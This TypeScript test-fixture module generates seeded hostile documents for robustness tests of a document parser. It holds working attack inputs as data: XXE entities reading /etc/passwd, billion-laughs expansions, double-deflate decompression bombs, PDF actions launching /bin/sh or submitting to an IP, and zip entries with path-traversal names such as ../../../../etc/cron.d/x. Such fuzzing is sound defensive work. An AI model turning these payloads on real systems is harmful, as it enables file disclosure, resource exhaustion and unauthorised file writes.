/** Hostile documents, each the same again for the same seed: cut off, encrypted, with scripts, bombs, and names with paths. */
import { makeRandom, toZip, type Random } from '@rapporteur/testing';
import { deflateSync } from 'node:zlib';
import { drawPage } from '../harness/draw-letter.js';
import { makePdf, stream, toPdf } from './make-pdf.js';

/** What may become of one: `text`, `unknown-kind`, or the code of a problem; undefined: any of them. */
export type Outcome = string;

export interface Hostile {
  readonly bytes: Buffer;
  readonly outcomes?: readonly Outcome[];
  /** What its text may not hold: it would have been run, or read from elsewhere. */
  readonly never?: RegExp;
}

type Make = (random: Random) => Hostile;

const lines = ['1. In 2007 six people were tried.', '2. There are shelters for 30 people.'];
const paragraphs = (random: Random, most = 40): string[] =>
  Array.from(
    { length: 1 + random.below(most) },
    (_, i) => `${i + 1}. ${random.below(9999)} cases of ${random.of(lines)}`,
  );

const w = (body: string, head = '') =>
  `<?xml version="1.0"?>${head}<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>`;
const p = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const docx = (xml: string, more: Readonly<Record<string, string | Buffer>> = {}) =>
  zip({ '[Content_Types].xml': '<a/>', 'word/document.xml': xml, ...more });
const odt = (body: string, head = '') =>
  zip({
    mimetype: 'application/vnd.oasis.opendocument.text',
    'content.xml': `<?xml version="1.0"?>${head}<o:c xmlns:o="o" xmlns:text="t" xmlns:table="b">${body}</o:c>`,
  });
const zip = (parts: Readonly<Record<string, string | Buffer>>) =>
  toZip(Object.entries(parts).map(([name, content]) => ({ name, content })));

const cut = (bytes: Buffer, random: Random): Buffer => bytes.subarray(0, 8 + random.below(bytes.length - 8));
/** Some bytes changed, behind those by which the kind is told. */
function spoil(bytes: Buffer, random: Random): Buffer {
  const copy = Buffer.from(bytes);
  for (let i = 1 + random.below(30); i > 0; i -= 1)
    copy[8 + random.below(copy.length - 8)] = random.below(256);
  return copy;
}

const secret = /root:x?:/;
/** XML that names itself again and again, or a file of the machine. */
const entities = (random: Random): string =>
  random.once(2)
    ? '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    : `<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY e "&a;&a;">${Array.from({ length: 30 }, (_, i) => `<!ENTITY e${i} "${`&${i === 0 ? 'e' : `e${i - 1}`};`.repeat(10)}">`).join('')}]>`;

/** Spaces that take hardly any room: packed twice, since what is packed once can be packed again. */
const bomb = (megabytes: number): Buffer =>
  deflateSync(deflateSync(Buffer.alloc(megabytes * 1024 ** 2, ' ')));

/** A TIFF that says how large it is, without its points, and where its next page stands: 8 is itself. */
function tiff(width: number, height: number, next: number): Buffer {
  const tags = [
    [256, 4, width],
    [257, 4, height],
    [258, 3, 8],
    [259, 3, 1],
    [262, 3, 1],
    [273, 4, 200],
    [278, 4, height],
    [279, 4, 100],
  ] as const;
  const bytes = Buffer.alloc(300);
  bytes.write('II*\0', 'latin1');
  bytes.writeUInt32LE(8, 4);
  bytes.writeUInt16LE(tags.length, 8);
  for (const [i, [tag, type, value]] of tags.entries()) {
    const at = 10 + i * 12;
    bytes.writeUInt16LE(tag, at);
    bytes.writeUInt16LE(type, at + 2);
    bytes.writeUInt32LE(1, at + 4);
    bytes.writeUInt32LE(value, at + 8);
  }
  bytes.writeUInt32LE(next, 10 + tags.length * 12);
  return bytes;
}

/** Each kind of hostility, from which many documents are made. */
export const kinds: Readonly<Record<string, Make>> = {
  'a PDF that is cut off': (random) => ({ bytes: cut(makePdf([paragraphs(random), lines]), random) }),
  'a PDF with odd bytes': (random) => ({ bytes: spoil(makePdf([paragraphs(random), lines]), random) }),
  'an encrypted PDF': (random) => {
    const key = () =>
      Array.from({ length: 32 }, () => random.below(256).toString(16).padStart(2, '0')).join('');
    const [version, revision] = random.of([
      [1, 2],
      [2, 3],
    ]);
    const encrypt = `/Encrypt<</Filter/Standard/V ${version}/R ${revision}/Length 128/P -4/O<${key()}>/U<${key()}>>>`;
    return { bytes: makePdf([lines], { trailer: `/ID[<00><00>]${encrypt}` }), outcomes: ['encrypted'] };
  },
  'a PDF with scripts': (random) => {
    const action = random.of([
      '/S/JavaScript/JS(app.alert\\(7\\);this.submitForm\\("http://192.0.2.1/"\\))',
      '/S/Launch/F(/bin/sh)',
      '/S/URI/URI(file:///etc/passwd)',
      '/S/GoToR/F(../../../etc/passwd)',
    ]);
    return {
      bytes: makePdf([lines], { catalog: `/OpenAction<<${action}>>/AA<</WC<<${action}>>>>` }),
      outcomes: ['text'],
      never: secret,
    };
  },
  'a PDF of thousands of pages': (random) => ({
    bytes: makePdf(Array.from({ length: 2001 + random.below(8000) }, (_, i) => [`${i + 1}. A page.`])),
    outcomes: ['too-large'],
  }),
  'a PDF that says it has pages without end': (random) => ({
    bytes: makePdf([lines], { count: random.of([2 ** 31 - 1, 1_000_000, -1, 2001]) }),
  }),
  'a PDF with a bomb': (random) => ({
    bytes: makePdf([lines], {
      content: stream('/Filter[/FlateDecode/FlateDecode]', bomb(64 + random.below(448))),
    }),
  }),
  'a PDF that runs in circles': (random) => ({
    bytes: toPdf([
      '<</Type/Catalog/Pages 2 0 R>>',
      `<</Type/Pages/Kids[${random.of(['2 0 R', '3 0 R 2 0 R', '3 0 R 3 0 R'])}]/Count ${1 + random.below(9)}/Parent 3 0 R>>`,
      `<</Type/${random.of(['Pages', 'Page'])}/Parent 2 0 R/Kids[2 0 R]/Count 3/Contents ${random.of(['3', '4', '9'])} 0 R>>`,
      random.of(['4 0 R', '[4 0 R 4 0 R]', '<</Length 4 0 R>>stream\nBT\nendstream']),
    ]),
  }),
  'a PDF without its fonts': (random) => ({
    bytes: makePdf([lines], {
      font: random.of([
        '99 0 R',
        '<</Type/Font/Subtype/Type0/BaseFont/Missing/Encoding/NoSuchCMap/DescendantFonts[99 0 R]>>',
        '<</Type/Font/Subtype/TrueType/BaseFont/Missing/ToUnicode 7 0 R>>',
        '<</Type/Font/Subtype/Type3/CharProcs<<>>/FontMatrix[0 0 0 0 0 0]/Encoding<<>>>>',
        '<</Type/Font/Subtype/Type0/BaseFont/SimSun/Encoding/GBK-EUC-H/DescendantFonts[<</Type/Font/Subtype/CIDFontType2>>]>>',
      ]),
      objects: [
        stream('', `begincmap 1 beginbfrange <00> <ff> <${'41'.repeat(1 + random.below(500))}> endbfrange`),
      ],
    }),
  }),
  'a DOCX that is cut off': (random) => ({ bytes: cut(docx(w(paragraphs(random).map(p).join(''))), random) }),
  'a DOCX with odd bytes': (random) => ({
    bytes: spoil(docx(w(paragraphs(random).map(p).join(''))), random),
  }),
  'a DOCX with a bomb': (random) => ({
    bytes: docx(w(p(' '.repeat(30_000_000 + random.below(60_000_000))))),
    outcomes: ['too-large'],
  }),
  'a DOCX whose parts have names with paths': (random) => ({
    bytes: docx(w(lines.map(p).join('')), {
      [random.of([
        '../../../../etc/cron.d/x',
        '/etc/passwd',
        'C:\\windows\\x',
        'word/../../x',
        'a'.repeat(60_000),
      ])]: 'x',
      [random.of(['word/document.xml/..', 'con', 'word\\document.xml', '\0', '..'])]: p('no letter'),
    }),
    never: /no letter/,
  }),
  'a DOCX of entities': (random) => ({
    bytes: docx(w(p('1. A &e; &e29; text.'), entities(random))),
    never: secret,
  }),
  'a DOCX of deep elements': (random) => ({
    bytes: docx(w(`<w:${random.of(['p', 'tbl', 'r'])}>`.repeat(500 + random.below(50_000)))),
  }),
  'an ODT that counts on': (random) => ({
    bytes: odt(
      `<text:p>1. A<text:s text:c="${random.of(['999999999', '-1', 'x'])}"/>b</text:p><table:table-cell table:number-columns-repeated="${2 ** 31}" table:number-rows-repeated="99999999"><text:p>x</text:p></table:table-cell>${'<text:list>'.repeat(random.below(5000))}`,
      entities(random),
    ),
    never: secret,
  }),
  'an RTF of odd groups': (random) => ({
    bytes: Buffer.from(
      `{\\rtf1\\ansicpg${random.of(['1252', '936', '99999', '-1'])}${random.of(['{'.repeat(900), '}'.repeat(900), '{'.repeat(200_000), `\\bin${2 ** 31 - 1} `, "\\'", `\\u${random.below(99_999)}`.repeat(9999), '\\uc999999999 \\u1 x', '{\\object{\\objdata 4d5a}}'])}1. A text.\\par`,
    ),
  }),
  'an HTML with scripts': (random) => ({
    bytes: Buffer.from(
      `<!DOCTYPE html><title>t</title>${random.of(['<div>'.repeat(60_000), '<a b="'.repeat(3000), `<p ${'x=y '.repeat(200_000)}>`, '<ol start=99999999999999999999><li>', '<!--', '<![CDATA['])}<p>1. A text.<script>document.write('ran')</script><style>p{content:"ran"}</style><iframe src="file:///etc/passwd"></iframe><svg onload="ran">`,
    ),
    never: /ran|root:x?:/,
  }),
  'an e-mail of parts in parts': (random) => {
    const depth = 1 + random.below(3000);
    const parts = Array.from(
      { length: depth },
      (_, i) => `Content-Type: multipart/mixed; boundary="${i}"\r\n\r\n--${i}\r\n`,
    );
    const last = random.of([
      'Content-Type: text/html\r\n\r\n<p>1. A text.<script>ran()</script>',
      `Content-Transfer-Encoding: base64\r\n\r\n${'=A!'.repeat(99_999)}`,
      'Content-Type: message/external-body; access-type=local-file; name="/etc/passwd"\r\n\r\n',
      'Content-Type: application/x; name="../../../etc/passwd"\r\n\r\nx',
    ]);
    return {
      bytes: Buffer.from(
        `From: a@b.example\r\nSubject: ${'=?utf-8?q?=ff?='.repeat(random.below(999))}\r\nMIME-Version: 1.0\r\n${parts.join('')}${last}`,
      ),
      never: /ran\(|root:x?:/,
    };
  },
  'a text of odd characters': (random) => ({
    bytes: random.of([
      Buffer.from(`\ufeff1. \ud800\udc00${'\ud800'} x`, 'utf16le'),
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('1. odd', 'utf8')]),
      Buffer.from(`1. ${' '.repeat(random.below(9_000_000))}x`),
      Buffer.from(`${'1.'.repeat(random.below(900_000))}x`),
      Buffer.from(`${'١٬٠٠٠٬'.repeat(random.below(200_000))}`),
      Buffer.from(`${'百千万亿'.repeat(random.below(200_000))}`),
      Buffer.from(`${'\n'.repeat(random.below(3_000_000))}1. x`),
      Buffer.from('1. a\u202e\u2066\u0007\u009b31mb'),
      Buffer.from(`${'_'.repeat(random.below(1_000_000))}\n${'1 a\n'.repeat(90_000)}`),
    ]),
  }),
  'a picture that is cut off or has odd bytes': (random) => ({
    bytes: random.of([cut, spoil])(drawPage(lines), random),
  }),
  'a TIFF of odd pages': (random) => ({
    bytes: tiff(random.of([1, 1000, 60_000]), random.of([1, 60_000]), random.of([0, 8, 2 ** 31])),
  }),
  'a file of two kinds': (random) => {
    const [one, other] = [makePdf([lines]), docx(w(lines.map(p).join('')))];
    return {
      bytes: random.of([
        Buffer.concat([one, other]),
        Buffer.concat([other, one]),
        Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), one]),
        Buffer.concat([Buffer.from('<html>'), one]),
        Buffer.concat([Buffer.from('GIF89a'), one]),
        Buffer.concat([Buffer.from('MZ'), other]),
      ]),
    };
  },
};

const names = Object.keys(kinds);

/** In: a number from 0. Out: the document of that number: its kind, and the same bytes each time. */
export function makeHostile(number: number): Hostile & { readonly kind: string } {
  const kind = names[number % names.length]!;
  return { kind, ...kinds[kind]!(makeRandom(number)) };
}
